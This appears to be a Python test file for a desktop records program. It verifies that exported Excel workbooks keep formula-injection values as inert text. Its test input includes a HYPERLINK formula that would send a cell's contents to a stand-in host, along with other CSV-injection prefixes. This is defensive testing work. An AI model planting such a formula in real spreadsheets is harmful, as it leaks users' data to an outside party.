"""Formula injection: every workbook the program writes keeps text as text, so a value such as
`=HYPERLINK(…)` never becomes a live formula in Excel, and an export imports back unchanged."""

import ast
import pathlib
import re
import zipfile

import openpyxl
import pytest
import python_calamine

import bvct_desktop
from bvct_desktop.core import audit, users, vault
from bvct_desktop.io import xlsx_book
from bvct_desktop.io.audit_xlsx import write_audit
from tests.conftest import ADMIN, PASSWORD
from tests.samples import SAMPLES

LINK = '=HYPERLINK("http://x.invalid/?d="&A2,"Bấm để xem")'
# OWASP's CSV-injection prefixes (= + - @ tab CR) and the strings openpyxl writes as error cells.
PREFIXED = [LINK, "=1+1", "+84 912 345 678", "-2 ngày so với hạn", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "#REF!",
            "#N/A"]
# What survives the import's text rules (surrounding tab and CR are trimmed there).
STORED = [LINK, "=1+1", "+84 912 345 678", "-2 ngày so với hạn", "@SUM(A1:A9)", "#REF!", "#N/A"]
_FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")
_ERROR = re.compile(rb'\st="e"')


def text_workbook(path: pathlib.Path, headers: list[str], rows: list[list[object]]) -> pathlib.Path:
    """An import workbook whose cells are typed as text, as Excel keeps a cell typed with a leading '."""
    book = openpyxl.Workbook()
    sheet = book.active
    for r, values in enumerate([headers, *rows], start=1):
        for c, value in enumerate(values, start=1):
            if value is not None:
                xlsx_book.put(sheet, r, c, value)
    book.save(path)
    return path


def live_cells(path: pathlib.Path) -> list[str]:
    """The sheet parts of `path` holding a formula or an error cell."""
    with zipfile.ZipFile(path) as archive:
        return [name for name in archive.namelist() if name.startswith("xl/worksheets/")
                and (_FORMULA.search(archive.read(name)) or _ERROR.search(archive.read(name)))]


def all_text(path: pathlib.Path) -> set[str]:
    book = python_calamine.load_workbook(str(path))
    return {value for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python()
            for value in row if isinstance(value, str)}


def _cadre_rows() -> tuple[list[str], list[list[object]]]:
    headers = ["Họ và tên", "Ngày sinh", "Quê quán", "Chức vụ", "Đơn vị công tác", "Ghi chú"]
    return headers, [[value, f"1{960 + i}", f"Xã {i}", value, value, value] for i, value in enumerate(STORED)]


def test_both_kinds_of_sheet_keep_every_prefix_as_text(tmp_path):
    streamed = openpyxl.Workbook(write_only=True)
    sheet = streamed.create_sheet("luồng")
    sheet.append(xlsx_book.row(sheet, PREFIXED))
    sheet.append([xlsx_book.cell(sheet, value) for value in PREFIXED])
    streamed.save(tmp_path / "luong.xlsx")
    ordinary = openpyxl.Workbook()
    xlsx_book.append(ordinary.active, PREFIXED)
    for column, value in enumerate(PREFIXED, start=1):
        xlsx_book.put(ordinary.active, 2, column, value)
    ordinary.save(tmp_path / "thuong.xlsx")
    for name in ("luong.xlsx", "thuong.xlsx"):
        assert live_cells(tmp_path / name) == []
        rows = openpyxl.load_workbook(tmp_path / name).worksheets[0].iter_rows(values_only=True)
        assert [list(row) for row in rows] == [PREFIXED, PREFIXED]  # not escaped, not changed


def test_an_export_with_formula_like_values_imports_back_unchanged(cli, tmp_path):
    headers, rows = _cadre_rows()
    assert cli("import", "cadres", text_workbook(tmp_path / "vao.xlsx", headers, rows))[0] == 0
    out = tmp_path / "ra.xlsx"
    assert cli("export", "cadres", "--out", out)[0] == 0
    assert live_cells(out) == []
    assert set(STORED) <= all_text(out)
    code, stdout, stderr = cli("import", "cadres", out, "--dry-run")
    assert code == 0, stdout + stderr
    assert f"Đã có, không đổi: {len(STORED)}" in stdout and "Cập nhật: 0" in stdout


def test_documents_workbooks_keep_records_and_settings_as_text(cli, tmp_path):
    assert cli("settings", "set", "co_quan", LINK)[0] == 0
    cli("import", "cadres", text_workbook(tmp_path / "cb.xlsx", *SAMPLES["cadres"]))
    slip_headers, slip_rows = SAMPLES["slips"]
    hostile = [list(row) for row in slip_rows]
    for row in hostile:
        row[slip_headers.index("Nơi nhận phiếu")] = LINK
        row[slip_headers.index("Kết quả")] = "=1+1"
        row[slip_headers.index("Ghi chú")] = "@SUM(A1:A9)"
    assert cli("import", "slips", text_workbook(tmp_path / "phieu.xlsx", slip_headers, hostile))[0] == 0
    trip_headers, trip_rows = SAMPLES["delegations"]
    trips = [list(row) for row in trip_rows]
    for row in trips:
        row[trip_headers.index("Tên đoàn")] = "=HYPERLINK(\"x\")" if row[0] else row[2]
        row[trip_headers.index("Chức vụ")] = "-Giám đốc"
    assert cli("import", "delegations", text_workbook(tmp_path / "doan.xlsx", trip_headers, trips))[0] == 0

    written = {"so": ("print", "slip-register", "--from", "2025-01-01", "--to", "2026-12-31"),
               "doan": ("print", "delegation", "--decision", "125-QĐ/TU"),
               "bao-cao": ("report", "--from", "2025-01-01", "--to", "2025-12-31", "--format", "xlsx")}
    for name, command in written.items():
        out = tmp_path / f"{name}.xlsx"
        code, stdout, stderr = cli(*command, "--out", out)
        assert code == 0, stdout + stderr
        assert live_cells(out) == [], name
    assert {LINK, "=1+1"} <= all_text(tmp_path / "so.xlsx")
    trip_texts = all_text(tmp_path / "doan.xlsx")
    assert "-Giám đốc" in trip_texts and any('=HYPERLINK("x")' in text for text in trip_texts)
    assert any(text.startswith(LINK) for text in all_text(tmp_path / "bao-cao.xlsx"))


def test_the_audit_workbook_keeps_user_names_as_text(cli, tmp_path):
    db = vault.unlock(cli.db, ADMIN, PASSWORD)
    try:
        users.add(db, "=1+1", "xem", "Mat-khau-rat-dai-2025")
        vault.unlock(cli.db, "=1+1", "Mat-khau-rat-dai-2025").close()  # a login entry under that name
        out = tmp_path / "nhat-ky.xlsx"
        audit.export(db, out, lambda entries: write_audit(entries, out), audit.list_entries(db))
    finally:
        db.close()
    assert live_cells(out) == []
    assert "=1+1" in all_text(out)


def test_only_the_workbook_helper_makes_cells_and_workbooks():
    """Every writer goes through io/xlsx_book: no other module builds a cell (which could turn text
    into a formula) or an openpyxl workbook (which would stage its sheets in the temporary folder)."""
    package = pathlib.Path(bvct_desktop.__file__).parent
    offenders = []
    for path in package.rglob("*.py"):
        if path.name == "xlsx_book.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        names = {node.id for node in ast.walk(tree) if isinstance(node, ast.Name)}
        names |= {node.attr for node in ast.walk(tree) if isinstance(node, ast.Attribute)
                  and isinstance(node.value, ast.Name) and node.value.id == "openpyxl"}
        names |= {alias.name for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)
                  and (node.module or "").startswith("openpyxl") for alias in node.names}
        if names & {"WriteOnlyCell", "Cell", "Workbook"}:
            offenders.append(str(path.relative_to(package)))
    assert offenders == []


@pytest.mark.parametrize("value", PREFIXED)
def test_the_rule_is_openpyxls_own(value):
    cell = openpyxl.Workbook().active.cell(row=1, column=1, value=value)
    assert xlsx_book.becomes_other_than_text(value) == (cell.data_type != "s")
